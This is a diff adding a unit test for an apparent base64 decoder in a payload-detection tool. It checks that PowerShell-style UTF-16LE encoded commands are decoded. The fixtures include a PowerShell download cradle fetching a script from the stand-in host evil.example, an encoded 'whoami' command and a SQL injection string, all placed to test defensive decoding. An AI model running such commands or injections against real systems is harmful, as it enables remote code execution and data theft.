@@ -158,6 +158,14 @@ describe("runs", () => {
     }
   });
 
+  test("UTF-16LE text in base64 (PowerShell's -EncodedCommand) is decoded; UTF-16 of other scripts and random bytes are not", () => {
+    const cradle = 'IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a.ps1")';
+    expect(decodeBase64Runs(Buffer.from(cradle, "utf16le").toString("base64"))).toEqual([cradle]);
+    expect(decodeBase64Runs(`powershell -nop -enc ${Buffer.from("whoami /all", "utf16le").toString("base64")}`)).toEqual(["whoami /all"]);
+    expect(decodeBase64Runs(Buffer.from("日本語のテキストです、よろしく", "utf16le").toString("base64"))).toEqual([]);
+    expect(decodeBase64Runs(Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 97 + 13) % 256)).toString("base64"))).toEqual([]);
+  });
+
   test("gzip, zlib and raw deflate in base64 are inflated, whatever their groups look like; random bytes are not read as text", () => {
     const sqli = "' UNION SELECT username,password FROM users-- -";
     expect(decodeBase64Runs(gzipSync(sqli).toString("base64"), inflating())).toEqual([sqli]);
